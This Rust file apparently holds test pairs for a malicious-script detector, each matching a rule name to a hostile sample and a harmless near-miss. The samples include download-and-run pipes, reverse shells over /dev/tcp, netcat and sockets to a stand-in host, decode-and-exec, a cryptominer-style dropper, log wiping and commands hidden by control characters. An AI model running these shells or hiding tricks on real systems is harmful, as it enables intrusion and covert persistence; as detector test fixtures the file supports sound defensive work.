//! Pairs for the rules of scripts.

use super::{Pair, pair};

pub(super) fn pairs() -> Vec<Pair> {
    vec![
        pair(
            "content.download-and-run",
            ("/tmp/a.sh", "#!/bin/sh\ncurl -fsSL http://192.0.2.7/i.sh | bash\n"),
            ("/tmp/a.sh", "#!/bin/sh\ncurl -fsSL http://192.0.2.7/i.tar | tar x\nls | sh\n"),
        ),
        pair(
            "content.download-and-run",
            ("/root/x", "#!/bin/bash\nbash <(wget -qO- http://192.0.2.7/x)\n"),
            ("/usr/share/doc/x/README.md", "Install: `curl https://example.org/i.sh | sh`\n"),
        ),
        pair(
            "content.fetch-and-start",
            ("/tmp/.x", "#!/bin/sh\nwget http://192.0.2.7/a -O /tmp/a; chmod +x /tmp/a; /tmp/a &\n"),
            ("/tmp/.x", "#!/bin/sh\nwget http://192.0.2.7/a -O /tmp/a; chmod 644 /srv/a\nls -l\n"),
        ),
        pair(
            "content.scheduled-download",
            ("/var/spool/cron/crontabs/root", "*/5 * * * * wget -q -O - http://192.0.2.7/c.sh | sh > /dev/null 2>&1\n"),
            ("/var/spool/cron/crontabs/root", "*/5 * * * * wget -q -O /dev/null http://localhost/cron.php\n"),
        ),
        pair(
            "content.decode-and-run",
            ("/tmp/b", "#!/bin/sh\necho aWQK | base64 -d | bash\n"),
            ("/tmp/b", "#!/bin/sh\necho aWQK | base64 -d > key.der\n"),
        ),
        pair(
            "content.decode-and-run",
            ("/tmp/b", "#!/bin/sh\neval \"$(echo aWQK | base64 --decode)\"\n"),
            ("/tmp/b", "#!/bin/sh\nkey=$(echo aWQK | base64 --decode)\n"),
        ),
        pair(
            "content.decode-and-evaluate",
            ("/tmp/b.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"),
            ("/tmp/b.py", "import base64\nkey = base64.b64decode('cHJpbnQoMSk=')\nexec(open('x').read())\n"),
        ),
        pair(
            "content.decode-and-evaluate",
            ("/tmp/b.pl", "#!/usr/bin/perl\neval(unpack('u', '_abc'));\n"),
            ("/tmp/b.pl", "#!/usr/bin/perl\nmy @a = unpack('N', $b); eval { close };\n"),
        ),
        pair(
            "content.reverse-shell",
            ("/tmp/r", "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n"),
            ("/tmp/r", "#!/bin/bash\nuntil (echo > /dev/tcp/localhost/5432) 2>/dev/null; do sleep 1; done\n"),
        ),
        pair(
            "content.netcat-shell",
            (
                "/tmp/r",
                "#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.7 4444 >/tmp/f\n",
            ),
            ("/tmp/r", "#!/bin/sh\nmkfifo /tmp/f; tar c . > /tmp/f & nc 192.0.2.7 4444 < /tmp/f\n"),
        ),
        pair(
            "content.netcat-shell",
            ("/tmp/r", "#!/bin/sh\nnc -e /bin/sh 192.0.2.7 4444\n"),
            ("/tmp/r", "#!/bin/sh\nnc -z 192.0.2.7 4444 && echo open\n"),
        ),
        pair(
            "content.socket-shell",
            (
                "/tmp/r.py",
                "import socket,os,pty\ns=socket.socket()\ns.connect(('192.0.2.7',4444))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')\n",
            ),
            ("/tmp/r.py", "import socket,os\ns=socket.socket()\ns.bind(('',80))\nos.dup2(log.fileno(), 2)\n"),
        ),
        pair(
            "content.socket-shell",
            (
                "/tmp/r.pl",
                "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,$a));open(STDIN,\">&S\");exec(\"/bin/sh -i\");\n",
            ),
            (
                "/tmp/r.pl",
                "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(25,$a));print S \"QUIT\";\n",
            ),
        ),
        pair(
            "content.socket-shell",
            ("/var/www/html/r.php", "<?php $s = fsockopen($ip, 4444);\n$p = proc_open($shell, $d, $pipes);\n"),
            ("/var/www/html/r.php", "<?php $s = fsockopen($ip, 25);\nfwrite($s, 'QUIT');\n"),
        ),
        pair(
            "content.dropper",
            ("/tmp/d", "#!/bin/sh\npkill -f kinsing\nchattr -i /etc/ld.so.preload\niptables -F\nsetenforce 0\n"),
            ("/etc/init.d/firewall", "#!/bin/sh\niptables -F\npkill -f firewalld\n"),
        ),
        pair(
            "content.makes-immutable",
            ("/tmp/d", "#!/bin/sh\nchattr +ia /etc/cron.d/root\n"),
            ("/tmp/d", "#!/bin/sh\nchattr +C /var/lib/db\nchattr -i /etc/x\n"),
        ),
        pair(
            "content.clears-traces",
            ("/tmp/d", "#!/bin/sh\nunset HISTFILE\nrm -rf /var/log/wtmp\n"),
            ("/tmp/d", "#!/bin/sh\nHISTFILE=~/.zsh_history\nlast -f /var/log/wtmp\n"),
        ),
        pair(
            "content.hidden-command",
            ("/etc/cron.d/x", "* * * * * root /tmp/.x/run\r# nothing to see here, go on, go on, go on\n"),
            ("/etc/cron.d/x", "* * * * * root /usr/bin/true\r\n# two lines of DOS\r\n"),
        ),
        pair(
            "content.hidden-command",
            ("/etc/profile.d/x.sh", "/tmp/.x/run &\r# nothing to see here\n\n\n"),
            (
                "/var/log/apt/term.log",
                "(Reading database ...\r(Reading database ... 5%\r(Reading database ... 10%\n\n\n\n\n\n\n",
            ),
        ),
        pair(
            "content.hidden-command",
            ("/root/.profile", &format!("umask 022{}; /tmp/.x/run &\n", " ".repeat(200))),
            ("/root/.profile", &format!("umask 022{}# a remark\n", " ".repeat(60))),
        ),
        pair(
            "content.hidden-command",
            ("/root/.profile", "/tmp/.x/run &\x1b[2K\x1b[1A\numask 022\n"),
            ("/root/.profile", "PS1=\"$ \x1b[1m\"\nprintf '\x1b[2K'\n"),
        ),
    ]
}
